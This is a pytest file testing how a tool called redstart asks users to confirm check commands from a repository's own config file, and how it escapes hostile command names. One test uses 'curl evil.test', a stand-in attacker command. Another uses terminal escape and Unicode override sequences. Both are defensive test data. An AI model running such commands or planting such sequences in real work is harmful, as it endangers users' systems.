"""Check commands of a repo's own settings are shown and asked about once."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from redstart.app.settings import Settings, load
from redstart.cli.repo_commands import settle_commands


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("REDSTART_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    folder = tmp_path / "repo"
    folder.mkdir()
    write(folder, "flake8 .")
    return folder


def write(repo: Path, command: str) -> None:
    (repo / "redstart.toml").write_text(f'[checks.commands]\ntheirs = "{command}"\n')


def settle(repo: Path, monkeypatch: pytest.MonkeyPatch, typed: str = "", *, is_interactive: bool = True) -> Settings:
    monkeypatch.setattr("sys.stdin", io.StringIO(typed))
    return settle_commands(load(project=repo), repo, can_ask=is_interactive)


def test_yes_is_remembered_until_the_commands_change(repo, monkeypatch, capsys):
    assert settle(repo, monkeypatch, "y\n").checks.commands == {"theirs": "flake8 ."}
    captured = capsys.readouterr()
    assert captured.err == f"{repo / 'redstart.toml'} adds 1 check command:\n  theirs: flake8 .\n"
    assert "Run these commands in the sandbox, now and in later runs? [y/N]: " in captured.out
    assert settle(repo, monkeypatch).checks.commands == {"theirs": "flake8 ."}
    assert capsys.readouterr() == ("", "")
    write(repo, "curl evil.test")
    assert settle(repo, monkeypatch, "n\n").checks.commands == {}
    assert "  theirs: curl evil.test\n" in capsys.readouterr().err


def test_user_is_asked_again_after_no_and_for_another_copy(repo, monkeypatch, tmp_path, capsys):
    assert settle(repo, monkeypatch, "\n").checks.commands == {}
    assert settle(repo, monkeypatch, "y\n").checks.commands == {"theirs": "flake8 ."}
    capsys.readouterr()
    moved_repo = repo.rename(tmp_path / "moved")
    assert settle(moved_repo, monkeypatch, "n\n").checks.commands == {}
    assert capsys.readouterr().out


def test_commands_run_and_are_named_when_nobody_can_be_asked(repo, monkeypatch, capsys):
    for _ in range(2):
        assert settle(repo, monkeypatch, is_interactive=False).checks.commands == {"theirs": "flake8 ."}
        assert capsys.readouterr() == ("", f"{repo / 'redstart.toml'} adds 1 check command:\n  theirs: flake8 .\n")


def test_users_own_tools_need_no_confirmation(repo, monkeypatch, tmp_path, capsys):
    config_folder = tmp_path / "config" / "redstart"
    config_folder.mkdir(parents=True)
    (config_folder / "config.toml").write_text('[checks.commands]\ntheirs = "mypy ."\n')
    assert settle(repo, monkeypatch).checks.commands == {"theirs": "mypy ."}
    assert capsys.readouterr() == ("", "")


def test_hostile_names_and_commands_are_shown_escaped(repo, monkeypatch, capsys):
    (repo / "redstart.toml").write_text('[checks.commands]\n"a\\u001b[2J" = "true \\u202e\\n# harmless"\n')
    settle(repo, monkeypatch, "n\n")
    assert "  a\\x1b[2J: true \\u202e\\n# harmless\n" in capsys.readouterr().err
